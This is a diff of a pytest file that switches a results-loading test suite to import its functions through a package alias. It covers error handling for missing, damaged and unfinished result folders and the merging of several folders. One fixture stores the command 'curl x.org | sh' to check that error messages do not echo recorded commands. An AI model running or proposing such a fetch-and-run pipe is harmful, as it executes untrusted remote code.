@@ -9,9 +9,8 @@ import numpy as np
 import pandas as pd
 import pytest
 
+import jaxattn as ja
 import jaxattn.lab.results
-from jaxattn.core.errors import InputError
-from jaxattn.lab.loaded import load
 from jaxattn.lab.storage.batch_record import Failure
 
 
@@ -41,7 +40,7 @@ def test_values_after_a_failure_are_nan(folder, batch_of, batches):
     assert raw["value"].notna().any()
     failure = Failure(cell=0, seed=2, phase="embed", step=1, reason="loss is not finite")
     batches.change(batch_of(folder), failures=(failure,))
-    records = load(folder).records
+    records = ja.load(folder).records
     seed = records["seed"] == 2
     before = (records["phase"] == "embed") & (records["step"] < 1)
     assert records.loc[seed & ~before, "value"].isna().all()
@@ -50,10 +49,10 @@ def test_values_after_a_failure_are_nan(folder, batch_of, batches):
 
 
 def test_missing_and_unrelated_folders_are_rejected(tmp_path):
-    with pytest.raises(InputError, match="no such folder"):
-        load(tmp_path / "none")
-    with pytest.raises(InputError, match=r"no study\.json"):
-        load(tmp_path)
+    with pytest.raises(ja.InputError, match="no such folder"):
+        ja.load(tmp_path / "none")
+    with pytest.raises(ja.InputError, match=r"no study\.json"):
+        ja.load(tmp_path)
 
 
 def test_error_for_an_unfinished_run_names_its_folder_but_not_the_recorded_command(
@@ -61,13 +60,13 @@ def test_error_for_an_unfinished_run_names_its_folder_but_not_the_recorded_comma
 ):
     change_study(folder, command="curl x.org | sh")
     (batch_of(folder) / "records.parquet").unlink()
-    with pytest.raises(InputError, match=rf"missing; run the same sweep again into {folder}$"):
-        load(folder)
+    with pytest.raises(ja.InputError, match=rf"missing; run the same sweep again into {folder}$"):
+        ja.load(folder)
     shutil.rmtree(batch_of(folder))
     with pytest.raises(
-        InputError, match=rf"has no measurements yet; run the same sweep again into {folder}$"
+        ja.InputError, match=rf"has no measurements yet; run the same sweep again into {folder}$"
     ):
-        load(folder)
+        ja.load(folder)
 
 
 @pytest.mark.parametrize("table", ["records", "tokens"])
@@ -77,32 +76,32 @@ def test_damaged_table_raises_a_one_line_error(folder, batch_of, table):
     content[len(content) // 3] ^= 1
     path.write_bytes(content)
     with pytest.raises(
-        InputError, match=rf"{table}\.parquet: damaged .*; run the same sweep again into"
+        ja.InputError, match=rf"{table}\.parquet: damaged .*; run the same sweep again into"
     ) as caught:
-        load(folder)
+        ja.load(folder)
     assert "\n" not in str(caught.value)
 
 
 def test_missing_column_raises(folder, batch_of, rewrite):
     records = pd.read_parquet(batch_of(folder) / "records.parquet")
     rewrite(folder, "records", records.drop(columns="metric"))
-    with pytest.raises(InputError, match="no column 'metric'"):
-        load(folder)
+    with pytest.raises(ja.InputError, match="no column 'metric'"):
+        ja.load(folder)
 
 
 @pytest.mark.parametrize("text", ["{", "[]", "{}", '{"name": "x"}'])
 def test_damaged_study_is_rejected(folder, text):
     (folder / "study.json").write_text(text)
-    with pytest.raises(InputError, match=r"study\.json: ") as caught:
-        load(folder)
+    with pytest.raises(ja.InputError, match=r"study\.json: ") as caught:
+        ja.load(folder)
     assert "\n" not in str(caught.value)
 
 
 def test_unknown_cell_is_rejected(results):
-    with pytest.raises(InputError, match=r"cell 9: .* has only cells 0 to 3"):
+    with pytest.raises(ja.InputError, match=r"cell 9: .* has only cells 0 to 3"):
         results["dims"].settings(9)
     chosen = results["dims"].choose(where={"model.dim": 256})
-    with pytest.raises(InputError, match=r"cell 0: .* has only cells 2$"):
+    with pytest.raises(ja.InputError, match=r"cell 0: .* has only cells 2$"):
         chosen.settings(0)
 
 
@@ -181,36 +180,36 @@ def parts(load_planted):
 
 
 def test_several_folders_load_as_one(parts, tmp_path):
-    both = load(parts)
+    both = ja.load(parts)
     assert sorted(both.records["seed"].unique()) == [0, 1, 2]
     for k, part in enumerate(parts):
         (tmp_path / f"part-{1 - k}").symlink_to(part)
-    again = load(tmp_path / "part-*")
+    again = ja.load(tmp_path / "part-*")
     pd.testing.assert_frame_equal(both.records, again.records)
-    with pytest.raises(InputError, match="seed 0 is also in"):
-        load([parts[0], str(parts[0])])
-    with pytest.raises(InputError, match=r"none-\*: no folder matches"):
-        load([tmp_path / "none-*"])
-    with pytest.raises(InputError, match="at least one results folder"):
-        load([])
+    with pytest.raises(ja.InputError, match="seed 0 is also in"):
+        ja.load([parts[0], str(parts[0])])
+    with pytest.raises(ja.InputError, match=r"none-\*: no folder matches"):
+        ja.load([tmp_path / "none-*"])
+    with pytest.raises(ja.InputError, match="at least one results folder"):
+        ja.load([])
 
 
 def test_table_has_a_row_per_run_with_its_settings_and_last_metrics(parts):
-    table = load(parts).table()
+    table = ja.load(parts).table()
     assert table[["cell", "seed"]].to_numpy().tolist() == [[c, s] for c in (0, 1) for s in (0, 1, 2)]
     assert table["model.dim"].tolist() == [8] * 3 + [16] * 3
     assert table["model.kind"].tolist() == ["one_layer"] * 6
     assert table["loss (setting)"].tolist() == ["hinge"] * 6
     assert table["loss"].tolist() == [100 * c + 10 * s + 5 + c for c in (0, 1) for s in (0, 1, 2)]
     np.testing.assert_array_equal(table["margin"], [np.nan] * 3 + [0.5] * 3)
-    with pytest.raises(InputError, match="walk"):
-        load(parts).table(phase="walk")
+    with pytest.raises(ja.InputError, match="walk"):
+        ja.load(parts).table(phase="walk")
 
 
 def test_table_of_several_folders_has_the_name_of_each_study(parts, folders):
-    assert load(parts).table()["sweep"].tolist() == ["x"] * 6
-    assert "sweep" not in load(parts[0]).table()
-    table = load([parts[0], folders["text"]]).table(phase="embed")
+    assert ja.load(parts).table()["sweep"].tolist() == ["x"] * 6
+    assert "sweep" not in ja.load(parts[0]).table()
+    table = ja.load([parts[0], folders["text"]]).table(phase="embed")
     assert set(table["sweep"]) == {"x", "planted"}
 
 
